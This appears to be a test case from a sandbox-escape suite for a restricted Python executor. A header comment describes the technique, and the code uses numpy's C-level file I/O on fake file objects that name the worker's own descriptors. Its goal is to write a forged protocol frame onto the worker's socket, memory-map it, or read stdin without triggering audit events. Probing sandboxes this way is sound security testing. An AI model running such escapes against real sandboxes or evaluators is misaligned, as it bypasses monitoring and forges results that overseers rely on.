# technique: numpy's C file I/O on file objects whose fileno() names the worker's own fds: ndarray.tofile on fd 3 (the worker's socket: bytes injected into the protocol before the answer) and fds 1 and 2, np.fromfile on fds 0 and 3, np.memmap of fd 3 (a shared mapping of the socket); numpy dup()s the fd in C, with no audit event, so the kernel answers
# expect: any
import numpy as np

class Fd:
    def __init__(self, fd, mode):
        self.fd, self.mode, self.name = fd, mode, "fd%d" % fd
    def fileno(self):
        return self.fd
    def tell(self):
        return 0
    def seek(self, *a):
        return 0
    def flush(self):
        pass
    def read(self, n=-1):
        return b""
    def write(self, b):
        return len(b)

frame = np.frombuffer(b"\x00\x00\x00\x10\x03" + b'{"result":1,"x"}' + b"safepy-escape-forged", dtype="u1")
attempts = [
    ("tofile fd 3", lambda: frame.tofile(Fd(3, "wb"))),
    ("tofile fd 1", lambda: frame.tofile(Fd(1, "wb"))),
    ("tofile fd 2", lambda: frame.tofile(Fd(2, "wb"))),
    ("fromfile fd 3", lambda: np.fromfile(Fd(3, "rb"), dtype="u1", count=64).tobytes()),
    ("memmap fd 3", lambda: np.memmap(Fd(3, "r+b"), dtype="u1", mode="r+", shape=(4096,))),
    ("fromfile fd 0", lambda: np.fromfile(Fd(0, "rb"), dtype="u1", count=64).tobytes()),
]
outcomes = {}
for name, attempt in attempts:
    try:
        outcomes[name] = "returned %r" % (attempt(),)
    except Exception as e:
        outcomes[name] = "%s: %s" % (type(e).__name__, str(e)[:200])
print(outcomes)
outcomes
